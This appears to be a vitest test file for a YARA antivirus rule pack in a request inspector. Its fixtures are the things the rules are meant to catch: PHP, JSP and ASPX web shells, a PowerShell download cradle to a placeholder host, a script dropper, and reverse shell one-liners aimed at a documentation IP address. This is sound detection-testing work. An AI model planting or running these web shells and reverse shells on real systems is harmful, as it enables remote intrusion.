import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { expect, it } from "vitest";
import { createInspector } from "../../src/index.ts";
import { YaraEngine } from "../../src/inspect/antivirus/yara.ts";
import { benignCorpus } from "../support/corpus.ts";
import { EICAR } from "../support/clamd.ts";

const FOLDER = fileURLToPath(new URL("../../rules/yara", import.meta.url));
const engine = new YaraEngine(FOLDER, true);

const CASES: Readonly<Record<string, readonly [hostile: readonly string[], benign: readonly string[]]>> = {
  EICAR_test_file: [
    [EICAR, `x ${EICAR} y`, JSON.stringify(EICAR)],
    ["EICAR-STANDARD-ANTIVIRUS-TEST-FILE is the name of the test file"],
  ],
  PHP_web_shell: [
    [
      "<?php @eval($_POST['c']); ?>",
      '<?php system( $_GET["x"]);',
      "<?= $_GET['f']($_GET['a']) ?>",
      `<?php eval(gzinflate(base64_decode('${"QUJD".repeat(30)}')));`,
    ],
    ["<?php echo htmlspecialchars($_POST['c']); ?>", "eval($_POST['c']) without a tag", "<?xml version='1.0'?>"],
  ],
  JSP_web_shell: [
    ['<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>'],
    ['<% out.print(request.getParameter("name")); %>', "Runtime.getRuntime().exec(cmd)"],
  ],
  ASPX_web_shell: [
    ['<%eval request("cmd")%>', '<%@ Page %><% new ProcessStartInfo(Request["c"]) %>'],
    ["<% Response.Write(1) %>"],
  ],
  PowerShell_download_cradle: [
    [
      "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')\"",
      `powershell.exe -w hidden -enc ${"QQBCAEMA".repeat(12)}`,
    ],
    ["Use Invoke-WebRequest to download the file.", "iex is an alias of Invoke-Expression"],
  ],
  Script_dropper: [
    [
      'var s=new ActiveXObject("WScript.Shell");var h=new ActiveXObject("MSXML2.XMLHTTP");var a=new ActiveXObject("ADODB.Stream");s.Run("x.exe")',
    ],
    ['new ActiveXObject("WScript.Shell").Popup("hi")'],
  ],
  Reverse_shell_script: [
    [
      "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
      'import socket,subprocess,os;s=socket.socket(socket.AF_INET);s.connect(("203.0.113.7",1));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])',
      "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1 | nc 203.0.113.7 1 >/tmp/f",
    ],
    ["the bash manual describes /dev/tcp/host/port", "socket.socket(socket.AF_INET) makes a socket"],
  ],
};

it("every rule of the pack has cases, matches the hostile ones and not the benign ones", () => {
  const names = [...readFileSync(join(FOLDER, "lazaret.yar"), "utf8").matchAll(/^rule (\w+)/gm)].map(
    ([, name]) => name,
  );
  expect(Object.keys(CASES)).toEqual(names);
  for (const [rule, [hostile, benign]] of Object.entries(CASES)) {
    for (const text of hostile) {
      expect([rule, text, engine.scan(Buffer.from(text))]).toMatchObject([rule, text, { kind: "infected" }]);
      // Beyond the size at which `needs` is asked, the rules alone decide: both must agree.
      expect(engine.scan(Buffer.from(text + " ".repeat(300_000)))).toEqual({ kind: "infected", names: [rule] });
    }
    for (const text of benign) expect([text, engine.scan(Buffer.from(text))]).toEqual([text, { kind: "clean" }]);
  }
});

it("no benign body of the corpus is malware, with and without the question for needed words", () => {
  for (const { id, body } of benignCorpus() ?? []) {
    expect([id, engine.scan(Buffer.from(body))]).toEqual([id, { kind: "clean" }]);
  }
});

it("EICAR in base64 in JSON blocks the response without any clamd", async () => {
  const inspector = await createInspector();
  const body = JSON.stringify({ file: Buffer.from(EICAR).toString("base64") });
  const { verdict, findings } = await inspector.inspect({ body, contentType: "application/json" });
  expect([verdict, findings]).toMatchObject([
    "blocked",
    [
      {
        stage: "antivirus",
        category: "malware",
        rule: "lazaret/yara/EICAR_test_file",
        location: { part: "body > $.file (base64)" },
      },
    ],
  ]);
});

it("an engine list without any turns antivirus off", async () => {
  const inspector = await createInspector({ policy: { antivirus: { engines: [] } } });
  expect((await inspector.inspect({ body: EICAR, contentType: "text/plain" })).verdict).toBe("pass");
});

it("a broken file is an error with its place", () => {
  const folder = mkdtempSync(join(tmpdir(), "yara-"));
  writeFileSync(join(folder, "x.yar"), "rule a {\n condition:\n  $missing\n}\n");
  expect(() => new YaraEngine(folder, true)).toThrow(`${join(folder, "x.yar")}:3: `);
});
